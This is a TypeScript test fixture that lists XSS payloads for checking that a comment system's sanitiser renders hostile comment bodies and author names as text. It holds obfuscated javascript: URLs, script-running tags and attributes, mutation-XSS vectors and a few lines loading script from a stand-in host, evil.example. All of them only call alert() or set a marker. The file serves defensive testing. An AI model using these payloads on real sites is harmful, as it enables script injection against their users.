// Hostile comment bodies and author names for the XSS proof: the classic vector families of the
// public corpora (OWASP's XSS filter evasion cheat sheet, html5sec.org, DOMPurify's test vectors,
// mutation-XSS research), written for this project. Every payload either calls alert() or sets
// window.__xss, so a browser test can tell whether anything ran.

const J = "javascript:alert(1)";

/** URL obfuscations of javascript: (OWASP cheat sheet, DOMPurify's Unicode-whitespace vectors). */
const hrefVariants: readonly string[] = [
  J, "JaVaScRiPt:alert(1)", "jav&#x09;ascript:alert(1)", "jav&#x0A;ascript:alert(1)", "jav&#x0D;ascript:alert(1)",
  "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)", "&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058alert(1)",
  "&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)", " &#14; javascript:alert(1)", "\u2028javascript:alert(1)",
  "&#xA0javascript:alert(1)", "&#x1680;javascript:alert(1)", "&#x2000;javascript:alert(1)", "&#x200B;javascript:alert(1)",
  "&#x3000;javascript:alert(1)", "\u0001java\u0003script:alert(1)", "javascript&colon;alert(1)", "java\\0script:alert(1)",
  "vbscript:msgbox(1)", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", "data:text/html,<script>alert(1)</script>",
  "livescript:alert(1)", "//evil.example/x.js", "javascript://%0Aalert(1)", "jAvAsCrIpT&colon;alert&lpar;1&rpar;",
];

/** Tags and attributes that run script (OWASP cheat sheet, html5sec). */
const directVectors: readonly string[] = [
  "<script>alert(1)</script>", "<SCRIPT SRC=//evil.example/xss.js></SCRIPT>", "<script>window.__xss=1</script>",
  "<IMG SRC=\"javascript:alert(1);\">", "<IMG SRC=javascript:alert(1)>", "<IMG SRC=`javascript:alert(1)`>",
  "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">", "<IMG SRC=# onmouseover=\"alert(1)\">", "<IMG SRC=/ onerror=\"alert(1)\"></img>",
  "<img src=x onerror=alert(1)>", "<img src=x:x onerror=window.__xss=1>", "<img/src=x/onerror=alert(1)>",
  "<img src=x onerror=\"&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041\">",
  "<body onload=alert(1)>", "<BODY BACKGROUND=\"javascript:alert(1)\">", "<svg onload=alert(1)>", "<svg/onload=window.__xss=1>",
  "<svg><script>alert(1)</script></svg>", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"20\" y=\"20\">click</text></a></svg>", "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)' /></svg>#x\" /></svg>",
  "<math><maction actiontype=\"statusline#\" xlink:href=\"javascript:alert(1)\">click</maction></math>", "<math href=\"javascript:alert(1)\">click</math>",
  "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
  "<object data=\"javascript:alert(1)\"></object>", "<embed src=\"data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+\">",
  "<input onfocus=alert(1) autofocus>", "<select autofocus onfocus=alert(1)>", "<textarea autofocus onfocus=alert(1)>",
  "<keygen autofocus onfocus=alert(1)>", "<video><source onerror=\"alert(1)\"></video>", "<audio src=x onerror=alert(1)>",
  "<details open ontoggle=alert(1)>", "<marquee onstart=alert(1)>", "<div onpointerover=\"alert(1)\">hover</div>",
  "<a href=\"#\" onclick=\"alert(1)\">click</a>", "<form><button formaction=\"javascript:alert(1)\">X</button></form>",
  "<form action=\"javascript:alert(1)\"><input type=submit></form>", "<isindex type=image src=1 onerror=alert(1)>",
  "<link rel=import href=\"data:text/html,<script>alert(1)</script>\">", "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1);\">",
  "<base href=\"javascript:alert(1)//\"><a href=\"x\">x</a>", "<table background=\"javascript:alert(1)\"></table>",
  "<div style=\"background-image: url(javascript:alert(1))\">x</div>", "<div style=\"width: expression(alert(1));\">x</div>",
  "<style>@import 'javascript:alert(1)';</style>", "<style>li {list-style-image: url(\"javascript:alert(1)\");}</style><ul><li>x</li></ul>",
  "<xss style=\"behavior: url(xss.htc);\">x</xss>", "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
  "<applet code=\"javascript:alert(1)\"></applet>", "<portal src=javascript:alert(1)>",
  "<a href=\"javascript:void(0)\" onmouseover=alert(1)>x</a>", "<bgsound src=\"javascript:alert(1);\">",
];

/** Parser-differential and mutation vectors (DOMPurify's tests, mXSS research). */
const mutationVectors: readonly string[] = [
  "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>", "<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>",
  "<listing>&lt;img onerror=\"alert(1);//\" src=x&gt;<t t></listing>", "<img src=x id/=' onerror=alert(1)//'>",
  "<textarea>x</textarea><!--</textarea><img src=x onerror=alert(1)>-->", "<body><template><s><template><s><img src=x onerror=alert(1)>x</s></template></s></template>",
  "<option><style></option></select><b><img src=x onerror=alert(1)></style></option>", "<option><iframe></select><b><script>alert(1)</script>",
  "<b><style><style/><img src=x onerror=alert(1)>", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
  "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;\">",
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>", "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
  "<svg><p><style><a id=\"</style><img src=1 onerror=alert(1)>\"></a></style></p></svg>", "<math><mi><mglyph><svg><mtext><textarea><path id=\"</textarea><img onerror=alert(1) src=1>\"></path></textarea></mtext></svg></mglyph></mi></math>",
  "<xmp><p title=\"</xmp><img src=x onerror=alert(1)>\"></xmp>", "<noembed><p title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
  "<noframes><p title=\"</noframes><img src=x onerror=alert(1)>\"></noframes>", "<iframe><p title=\"</iframe><img src=x onerror=alert(1)>\"></iframe>",
  "<title><p title=\"</title><img src=x onerror=alert(1)>\"></title>", "<style><p title=\"</style><img src=x onerror=alert(1)>\"></style>",
  "<a href=\"https://example.com/\" title=\"&quot;><img src=x onerror=alert(1)>\">ok</a>", "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>", "<?xml ?><img src=x onerror=alert(1)>", "<a href=\"https://x.example/\"<img src=x onerror=alert(1)>>x</a>",
  "<<script>alert(1);//<</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<p>x</p></p><img src=x onerror=alert(1)>",
  "<svg><style><img src=x onerror=alert(1)></style></svg>", "<template><img src=x onerror=alert(1)></template>",
  "<pre><code class=\"language-js\" onmouseover=\"alert(1)\">x</code></pre>", "<pre><code class=\"language-js\"></code></pre><img src=x onerror=alert(1)>",
  "<code class=\"language-&quot;&gt;&lt;img src=x onerror=alert(1)&gt;\">x</code>",
];

/** Every hostile body, one vector each; href variants wrapped in links. */
export const xssBodies: readonly string[] = [
  ...hrefVariants.map((href) => `<p><a href="${href}">link</a></p>`),
  ...directVectors,
  ...mutationVectors,
];

/** Author names that look like markup; they must stay text. */
export const xssNames: readonly string[] = [
  "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "\"><svg onload=alert(1)>", "'><script>window.__xss=1</script>",
  "</span><script>alert(1)</script>", "<iframe src=javascript:alert(1)>", "&lt;script&gt;alert(1)&lt;/script&gt;",
  "<a href=javascript:alert(1)>me</a>", "{{constructor.constructor('alert(1)')()}}", "${alert(1)}",
];
